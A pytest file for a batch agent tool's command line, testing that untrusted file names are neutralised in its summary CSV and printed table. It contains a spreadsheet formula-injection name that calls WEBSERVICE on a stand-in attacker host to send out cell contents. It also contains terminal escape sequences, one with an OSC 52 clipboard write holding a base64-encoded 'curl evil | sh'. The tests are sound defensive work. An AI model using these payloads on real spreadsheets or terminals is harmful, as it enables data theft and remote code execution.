"""The fleet's command line (``python -m nbagent.batch``)."""

from __future__ import annotations

from nbagent.batch.__main__ import parser


def test_allow_given_twice_allows_both_tools() -> None:
    args = parser().parse_args(["Summarise {item}", "a.csv", "--allow", "python", "--allow", "read_file"])
    assert args.allow == ["python", "read_file"]
    assert parser().parse_args(["p", "a.csv", "--allow", "python", "read_file"]).allow == ["python", "read_file"]
    assert parser().parse_args(["p", "a.csv"]).allow == []


def test_the_summary_csv_holds_no_formula_a_submitted_file_name_or_an_error_would_make(tmp_path, monkeypatch) -> None:
    """A submitted file named ``=WEBSERVICE(…).csv`` (a valid name: ``CHAR(47)`` spells ``/``) was written
    to ``summary.csv`` as it is, and a spreadsheet opening the summary ran it (attacker pass 13)."""
    import csv

    from nbagent.batch import __main__ as cli
    from nbagent.batch.item import ItemResult

    name = '=WEBSERVICE("http:"&CHAR(47)&CHAR(47)&"evil.example"&CHAR(47)&A3).csv'
    rows = [ItemResult(name, "error", error="-1 is no budget"), ItemResult("ok.csv", "end_turn", cost_usd=0.01)]

    class Done:
        def __init__(self, **_kw: object) -> None: ...

        def run(self, _pool: object) -> list[ItemResult]:
            return rows

    monkeypatch.setattr(cli, "Fleet", Done)
    cli.main(["p", name, "ok.csv", "--out", str(tmp_path)])
    with open(tmp_path / "summary.csv", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{name}" in cells and "'-1 is no budget" in cells and "ok.csv" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_printed_table_shows_a_submitted_file_name_s_terminal_escapes_as_text(tmp_path, monkeypatch, capsys) -> None:
    """A submitted file named with terminal escapes (``\\x1b[2K\\x1b[1A`` erases the row above and moves
    onto it; OSC 52 writes the clipboard) was printed as it is in the run's table: the teacher's
    terminal acted on it (attacker pass 20)."""
    from nbagent.batch import __main__ as cli
    from nbagent.batch.item import ItemResult

    name = "data/x\x1b[2K\x1b[1Afake\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\u202e.csv"
    rows = [ItemResult("data/ok.csv", "end_turn", cost_usd=0.01), ItemResult(name, "end_turn", cost_usd=0.01)]

    class Done:
        def __init__(self, **_kw: object) -> None: ...

        def run(self, _pool: object) -> list[ItemResult]:
            return rows

    monkeypatch.setattr(cli, "Fleet", Done)
    cli.main(["p", "data/ok.csv", name, "--out", str(tmp_path)])
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "data/x⟦U+001B⟧[2K⟦U+001B⟧[1Afake⟦U+001B⟧]52;c;Y3VybCBldmlsIHwgc2gK⟦U+0007⟧⟦U+202E⟧.csv" in out
    assert "data/ok.csv" in out


def test_the_printed_table_shows_a_persian_or_emoji_file_name_as_it_is() -> None:
    """Only what a terminal acts on is written as an escape: ``str.isprintable`` also refused the
    zero-width non-joiner of a Persian name, the joiner of an emoji family and a no-break space, and
    the table showed ``گزارش\\u200cنهایی.csv`` (review of attacker pass 20)."""
    import pandas as pd

    from nbagent.batch.fleet import as_terminal_text

    names = ["data/گزارش\u200cنهایی.csv", "data/👨\u200d👩\u200d👧.csv", "data/Müller\u00a0Jan.csv", "data/日本\u3000語.csv"]
    shown = as_terminal_text(pd.DataFrame({"item": [*names, "data/x\x1b[2K\u202e.csv"], "n": [1, 2, 3, 4, 5]}))
    assert list(shown["item"]) == [*names, "data/x⟦U+001B⟧[2K⟦U+202E⟧.csv"]
    assert list(shown["n"]) == [1, 2, 3, 4, 5]
